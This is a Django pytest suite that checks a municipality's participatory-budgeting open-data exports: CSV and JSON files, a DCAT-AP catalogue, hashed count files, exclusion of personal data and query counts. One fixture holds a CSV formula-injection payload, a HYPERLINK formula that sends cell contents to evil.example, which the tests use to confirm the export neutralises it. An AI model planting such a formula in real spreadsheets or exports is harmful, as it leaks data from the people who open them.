"""Open data (ideas/opendata.py at /open-data/): every file parses, the DCAT-AP catalogue describes every
distribution and each one downloads, the counted file is byte for byte the hashed one, nothing about people is in
any file, non-public ideas and unpublished counts stay out, and spreadsheets cannot run a cell."""

import csv
import datetime
import hashlib
import io
import json
from decimal import Decimal
from urllib.parse import urlparse

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from ideas import delivery as services
from ideas.models import Channel, Comment, Idea, ResidentProfile, RoundResult, Support
from ideas.voting.casting import cast
from ideas.voting.results import count_round, publish_results
from tests.factories import UserFactory, make_idea, verified_resident
from tests.ideas import voters

pytestmark = pytest.mark.django_db

CC_BY = "https://creativecommons.org/licenses/by/4.0/"
IANA = "http://www.iana.org/assignments/media-types/"
FILES = [
    "opendata:ideas_csv",
    "opendata:ideas_json",
    "opendata:results_csv",
    "opendata:results_json",
    "opendata:delivery_csv",
    "opendata:delivery_json",
    "opendata:catalog",
]
# Personal codes of the made-up voters (DDMMYY-NNNNN); only keyed hashes of them are ever stored.
PERSONAL_CODES = ["150385-17341", "020791-28562", "311200-39483"]
INJECTION = '=HYPERLINK("https://evil.example/?"&B2,"Click")'


@pytest.fixture
def people():
    """Residents with names and e-mails that must never reach the open data, and what they did: an idea (the
    author), a comment, a support, and a workshop idea credited to an attendee and entered by staff."""
    author = verified_resident("zvaigznite-author", email="zvaigznite.private@mail.example")
    ResidentProfile.objects.update_or_create(
        user=author, defaults={"display_name": "Zvaigznīte Ozoliņa-Bērziņa"}
    )
    commenter = verified_resident("kristaps-commenter", email="kristaps.hidden@mail.example")
    ResidentProfile.objects.update_or_create(user=commenter, defaults={"display_name": "Kristaps Vītoliņš"})
    supporter = verified_resident("ruta-supporter", email="ruta.secret@mail.example")
    ResidentProfile.objects.update_or_create(user=supporter, defaults={"display_name": "Rūta Liepiņa"})
    clerk = UserFactory(username="dzintra-clerk", email="dzintra.clerk@kekava.example")
    return {
        "author": author,
        "commenter": commenter,
        "supporter": supporter,
        "clerk": clerk,
        "strings": [
            "zvaigznite-author",
            "zvaigznite.private@mail.example",
            "Zvaigznīte Ozoliņa-Bērziņa",
            "kristaps-commenter",
            "kristaps.hidden@mail.example",
            "Kristaps Vītoliņš",
            "ruta-supporter",
            "ruta.secret@mail.example",
            "Rūta Liepiņa",
            "dzintra-clerk",
            "dzintra.clerk@kekava.example",
            "Aina Darbnīcniece",
            "A comment only the page shows",
            *PERSONAL_CODES,
        ],
    }


@pytest.fixture
def data(people):
    """A round voted on by three confirmed voters, counted, published and in delivery; public ideas with
    comments, supports and a workshop credit; a draft and a submitted idea; an unpublished recount."""
    budget_round = voters.voting_round(total_budget=Decimal("20000"))
    author = people["author"]
    ballot = [
        make_idea(
            budget_round,
            author=author,
            status="on_ballot",
            title=f"Ballot idea {number}",
            estimated_cost=Decimal(cost),
            trees_planted=10 * (number + 1),
            latitude=Decimal("56.8301"),
            longitude=Decimal("24.2290"),
            published_at=timezone.now() - datetime.timedelta(days=30),
        )
        for number, cost in enumerate([8000, 7000, 9000])
    ]
    for code, chosen in zip(PERSONAL_CODES, [(0, 1), (0, 2), (0, 1)], strict=True):
        # The voters are residents whose person is confirmed, with their names on their profiles.
        voters.confirmed_resident(f"voter-{code}", code, email=f"voter.{code}@mail.example", census=True)
        cast(
            budget_round,
            voters.on_census(code),
            channel=Channel.ONLINE,
            choices={ballot[index].pk: 1 for index in chosen},
        )
    assert voters.close_and_open(budget_round) == 3
    result = count_round(budget_round)
    publish_results(budget_round, [result], None)
    preview = count_round(budget_round, rule="equalshares")  # a recount staff have not published

    funded = Idea.objects.get(pk=ballot[0].pk)
    assert funded.status == "selected"
    services.update_delivery(
        funded, None, state="in_progress", progress=40, planned_completion=datetime.date.today()
    )
    services.add_milestone(funded, None, title="Trees ordered", planned_date=datetime.date(2025, 4, 1))
    milestone = services.add_milestone(
        funded, None, title="Trees planted", planned_date=datetime.date(2025, 5, 1)
    )
    services.reach_milestone(milestone, None, actual_date=datetime.date(2025, 5, 3))
    services.record_delivered_impact(funded, None, trees_planted=12)

    public = make_idea(
        budget_round,
        author=author,
        status="published",
        title=INJECTION,
        summary="+SUM(1,2)",
        official_cost=Decimal("5000"),
    )
    Comment.objects.create(idea=public, author=people["commenter"], text="A comment only the page shows")
    Support.objects.create(idea=public, user=people["supporter"])
    workshop = make_idea(
        budget_round,
        status="feasible",
        title="Workshop idea: a bench by the river",
        credited_to="Aina Darbnīcniece",
        entered_by=people["clerk"],
        consent_recorded_at=timezone.now(),
    )
    draft = make_idea(budget_round, author=author, status="draft", title="Secret draft about a garden")
    submitted = make_idea(
        budget_round, author=author, status="submitted", title="Awaiting moderation: a pond"
    )
    return {
        "round": budget_round,
        "ballot": ballot,
        "result": result,
        "preview": preview,
        "funded": funded,
        "public": public,
        "workshop": workshop,
        "hidden": [draft, submitted],
    }


def fetch(client, name, **kwargs):
    response = client.get(reverse(name, kwargs=kwargs or None))
    assert response.status_code == 200, name
    return response


def csv_rows(response):
    text = response.content.decode("utf-8")
    reader = csv.DictReader(io.StringIO(text))
    rows = list(reader)
    assert reader.fieldnames and {"title", "round"} <= set(reader.fieldnames)
    return rows


def test_every_file_parses_and_is_cacheable(client, data):
    for name in FILES:
        response = fetch(client, name)
        assert "public" in response["Cache-Control"] and "max-age=300" in response["Cache-Control"]
        if name.endswith("_csv"):
            assert response["Content-Type"] == "text/csv; charset=utf-8"
            assert response["Content-Disposition"] == f'attachment; filename="{name.split(":")[1][:-4]}.csv"'
            assert csv_rows(response)
        elif name.endswith("_json"):
            assert response["Content-Type"] == "application/json; charset=utf-8"
            assert isinstance(json.loads(response.content.decode("utf-8")), list)
        else:
            assert response["Content-Type"] == "application/ld+json; charset=utf-8"
            assert json.loads(response.content.decode("utf-8"))["@type"] == "dcat:Catalog"


def test_ideas_are_the_public_ones_with_their_numbers(client, data):
    rows = {int(row["id"]): row for row in json.loads(fetch(client, "opendata:ideas_json").content)}
    expected = set(Idea.objects.public().values_list("pk", flat=True))
    assert set(rows) == expected
    for hidden in data["hidden"]:
        assert hidden.pk not in rows
    idea = data["ballot"][0]
    row = rows[idea.pk]
    assert row["round"] == data["round"].pk
    assert row["status"] == "in_implementation"
    assert row["estimated_cost"] == "8000.00" and row["net_cost"] == "8000.00"
    assert row["category"] == idea.category.code and row["area"] == idea.area.code
    assert row["latitude"] == "56.830100" and row["trees_planted"] == 10
    assert row["published"] == timezone.localdate(idea.published_at).isoformat()
    assert row["official_cost"] is None and rows[data["public"].pk]["official_cost"] == "5000.00"
    assert set(row) == {
        "id",
        "round",
        "round_name",
        "title",
        "summary",
        "category",
        "area",
        "status",
        "estimated_cost",
        "official_cost",
        "cofunding",
        "net_cost",
        "latitude",
        "longitude",
        "trees_planted",
        "area_greened_m2",
        "path_length_m",
        "co2_tonnes_per_year",
        "url",
        "published",
    }
    csv_ids = {int(row["id"]) for row in csv_rows(fetch(client, "opendata:ideas_csv"))}
    assert csv_ids == expected


def test_idea_urls_open_the_idea_pages(client, data):
    rows = json.loads(fetch(client, "opendata:ideas_json").content)
    with_pages = [row for row in rows if row["url"]]
    assert with_pages, "the demo's ideas live under a round page"
    for row in with_pages[:3]:
        url = urlparse(row["url"])
        assert url.scheme == "http" and url.netloc == "testserver"
        page = client.get(url.path)
        assert page.status_code == 200
        assert escape(row["title"]) in page.content.decode("utf-8")


def test_results_list_each_counted_idea_of_published_counts_only(client, data):
    result, preview = data["result"], data["preview"]
    rows = json.loads(fetch(client, "opendata:results_json").content)
    assert {row["result"] for row in rows} == set(
        RoundResult.objects.filter(published_at__isnull=False).values_list("pk", flat=True)
    )
    assert preview.pk not in {row["result"] for row in rows}
    ours = {row["idea"]: row for row in rows if row["result"] == result.pk}
    ballot = data["ballot"]
    assert set(ours) == {idea.pk for idea in ballot}
    assert ours[ballot[0].pk]["votes"] == 3 and ours[ballot[0].pk]["selected"] is True
    assert ours[ballot[1].pk]["votes"] == 2 and ours[ballot[1].pk]["selected"] is True
    assert ours[ballot[2].pk]["votes"] == 1 and ours[ballot[2].pk]["selected"] is False
    assert ours[ballot[2].pk]["cost_counted"] == "9000"
    assert ours[ballot[0].pk]["rule"] == "greedy" and ours[ballot[0].pk]["pb_sha256"] == result.pb_sha256
    assert ours[ballot[0].pk]["title"] == "Ballot idea 0"
    csv_ours = [
        row for row in csv_rows(fetch(client, "opendata:results_csv")) if row["result"] == str(result.pk)
    ]
    assert {row["selected"] for row in csv_ours} == {"true", "false"}
    assert len(csv_ours) == 3


def test_the_counted_file_is_served_byte_for_byte(client, data):
    result = data["result"]
    response = fetch(client, "opendata:result_pb", result_id=result.pk)
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert hashlib.sha256(response.content).hexdigest() == result.pb_sha256
    assert response.content == result.pb_file.encode("utf-8")
    row = next(
        row
        for row in json.loads(fetch(client, "opendata:results_json").content)
        if row["result"] == result.pk
    )
    assert urlparse(row["pb_url"]).path == reverse("opendata:result_pb", args=[result.pk])
    # An unpublished recount is a private preview: no file.
    assert client.get(reverse("opendata:result_pb", args=[data["preview"].pk])).status_code == 404


def test_delivery_of_funded_ideas(client, data):
    rows = {row["idea"]: row for row in json.loads(fetch(client, "opendata:delivery_json").content)}
    funded = data["funded"]
    row = rows[funded.pk]
    assert row["status"] == "in_implementation" and row["delivery_state"] == "in_progress"
    assert row["progress"] == 40 and row["allocated"] == "8000.00"
    assert row["planned_completion"] == datetime.date.today().isoformat() and row["days_late"] == 0
    assert row["promised_trees_planted"] == 10 and row["delivered_trees_planted"] == 12
    assert row["milestones"] == [
        {
            "title": "Trees ordered",
            "planned_date": "2025-04-01",
            "actual_date": None,
            "days_late": (datetime.date.today() - datetime.date(2025, 4, 1)).days,
        },
        {"title": "Trees planted", "planned_date": "2025-05-01", "actual_date": "2025-05-03", "days_late": 2},
    ]
    assert row["milestones_reached"] == 1
    assert data["ballot"][2].pk not in rows  # not selected
    csv_row = next(
        row for row in csv_rows(fetch(client, "opendata:delivery_csv")) if row["idea"] == str(funded.pk)
    )
    assert csv_row["milestones"] == "2" and csv_row["milestones_reached"] == "1"
    assert csv_row["final_cost"] == "" and csv_row["allocated"] == "8000.00"


def test_the_catalogue_describes_every_distribution_and_each_downloads(client, data):
    catalogue = json.loads(fetch(client, "opendata:catalog").content)
    context = catalogue["@context"]
    assert {"dcat", "dct", "foaf", "vcard", "spdx"} <= set(context)
    assert {text["@language"] for text in catalogue["dct:title"]} == {"lv", "en"}
    assert {text["@language"] for text in catalogue["dct:description"]} == {"lv", "en"}
    assert {name["@value"] for name in catalogue["dct:publisher"]["foaf:name"]} == {
        "Ķekavas novads",
        "Ķekava Municipality",
    }
    datasets = {dataset["dct:identifier"]: dataset for dataset in catalogue["dcat:dataset"]}
    assert set(datasets) == {"ideas", "results", "delivery"}
    downloads = []
    for dataset in datasets.values():
        assert {text["@language"] for text in dataset["dct:title"]} == {"lv", "en"}
        assert {text["@language"] for text in dataset["dct:description"]} == {"lv", "en"}
        assert dataset["dcat:theme"] and dataset["dcat:keyword"]
        assert dataset["dct:license"] == {"@id": CC_BY}
        for distribution in dataset["dcat:distribution"]:
            assert distribution["@type"] == "dcat:Distribution"
            assert distribution["dct:license"] == {"@id": CC_BY}
            assert distribution["dcat:mediaType"]["@id"].startswith(IANA)
            assert distribution["dct:format"]["@id"]
            url = distribution["dcat:downloadURL"]["@id"]
            assert url.startswith("http://testserver/open-data/")
            assert distribution["dcat:accessURL"]["@id"] == url
            downloads.append((url, distribution))
    assert {urlparse(url).path.rsplit(".", 1)[1] for url, _ in downloads} == {"csv", "json", "pb"}
    pb_files = [distribution for url, distribution in downloads if url.endswith(".pb")]
    published = RoundResult.objects.filter(published_at__isnull=False)
    assert len(pb_files) == published.count()
    assert data["preview"].pk not in {int(d["@id"].rsplit("/", 1)[1][:-3]) for d in pb_files}
    for url, distribution in downloads:
        response = client.get(urlparse(url).path)
        assert response.status_code == 200, url
        media_type = distribution["dcat:mediaType"]["@id"].removeprefix(IANA)
        assert response["Content-Type"].split(";")[0] == media_type
        if url.endswith(".pb"):
            checksum = distribution["spdx:checksum"]
            assert checksum["spdx:algorithm"]["@id"].endswith("checksumAlgorithm_sha256")
            assert hashlib.sha256(response.content).hexdigest() == checksum["spdx:checksumValue"]["@value"]


def test_no_personal_data_in_any_file(client, data, people):
    texts = [fetch(client, name).content.decode("utf-8") for name in FILES]
    for result in RoundResult.objects.filter(published_at__isnull=False):
        texts.append(fetch(client, "opendata:result_pb", result_id=result.pk).content.decode("utf-8"))
    everything = "\n".join(texts)
    # The files do carry the ideas themselves (the check would pass on an empty answer otherwise).
    assert "Workshop idea: a bench by the river" in everything
    assert str(data["funded"].pk) in everything
    for secret in people["strings"]:
        assert secret not in everything, secret
    for voter in ResidentProfile.objects.exclude(display_name="").values_list("display_name", flat=True):
        if len(voter) > 5:  # short demo names could be words of an idea's title
            assert voter not in everything, voter
    for hidden in data["hidden"]:
        assert hidden.title not in everything
    for field in ("author", "credited_to", "entered_by", "consent", "email", "display_name", "person"):
        assert f'"{field}' not in everything


def test_csv_cells_cannot_run_formulas(client, data):
    row = next(
        row for row in csv_rows(fetch(client, "opendata:ideas_csv")) if row["id"] == str(data["public"].pk)
    )
    assert row["title"] == "'" + INJECTION
    assert row["summary"] == "'+SUM(1,2)"
    # JSON is data, not a spreadsheet: the title stays as written.
    rows = json.loads(fetch(client, "opendata:ideas_json").content)
    assert next(row for row in rows if row["id"] == data["public"].pk)["title"] == INJECTION


def _queries(client, name):
    with CaptureQueriesContext(connection) as queries:
        fetch(client, name)
    return len(queries)


def test_queries_do_not_grow_with_rows(client, data):
    names = ["opendata:ideas_csv", "opendata:ideas_json", "opendata:delivery_json", "opendata:catalog"]
    for name in names:
        _queries(client, name)  # warm the per-process caches (site root paths, content types)
    before = {name: _queries(client, name) for name in names}
    for number in range(4):
        idea = make_idea(data["round"], status="selected", title=f"More {number}")
        services.add_milestone(idea, None, title="Start", planned_date=datetime.date(2025, 6, 1))
        make_idea(data["round"], status="published", title=f"Published {number}")
    assert {name: _queries(client, name) for name in names} == before
